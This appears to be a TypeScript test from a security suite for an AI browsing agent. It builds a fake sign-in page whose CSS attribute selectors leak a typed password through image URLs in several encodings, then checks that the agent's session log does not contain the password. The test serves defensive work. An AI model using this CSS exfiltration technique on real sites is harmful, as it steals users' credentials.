// A page under test reads a typed password by style sheets and sends it away in addresses of pictures: what is written of the
// session must not hold it.
import type { Attack } from './attack.ts';

const password = 'Osprey-Granite-58';
const spellings = [
  password,
  Array.from(password).toReversed().join(''),
  Buffer.from(password).toString('hex'),
  Array.from(password).join('.'),
  Buffer.from(password).toString('base64'),
];

export const attack: Attack = {
  name: 'reading-css',
  async run({ tenant, site }) {
    const made = await tenant.call('POST', '/credentials', {
      label: 'Quarry',
      target_host: 'localhost',
      username: 'ida.lind@example.com',
      password,
    });
    const rules = spellings
      .map(
        (spelling, at) =>
          `#p[value="${password}"] ~ i:nth-of-type(${at + 1}) { background: url("/reading-css/told?${spelling}"); display: block; height: 9px }`,
      )
      .join('\n');
    const url = site.page(
      '/reading-css/page',
      `<!doctype html><html lang="en"><title>Sign in</title><style>${rules}</style><h1>Sign in</h1>
       <form method="post" action="/reading-css/in"><label>E-mail <input name="u" type="email"></label>
       <label for="p">Password</label><input id="p" name="p" type="password" oninput="this.setAttribute('value', this.value)">
       ${spellings.map(() => '<i></i>').join('')}<button>Sign in</button></form></html>`,
    );
    site.page(
      '/reading-css/in',
      '<!doctype html><html lang="en"><title>Your account</title><h1>Your account</h1><p>You are signed in.</p></html>',
    );
    const { runId, sessionIds, status } = await tenant.visit(url, {
      task: 'Sign in',
      credential_ids: [made.json.id],
      duration_budget: 'short',
    });
    const told = site.heard('/reading-css/told').length;
    const written = await tenant.readAll(runId, sessionIds[0] ?? '');
    const found = spellings.filter(
      (spelling) => written.includes(spelling) || written.includes(encodeURIComponent(spelling)),
    );
    return {
      held: status === 'completed' && told > 0 && found.length === 0,
      seen: `the styles read the password and told it in ${told} addresses; ${found.length} of ${spellings.length} spellings stand in what was written`,
    };
  },
};
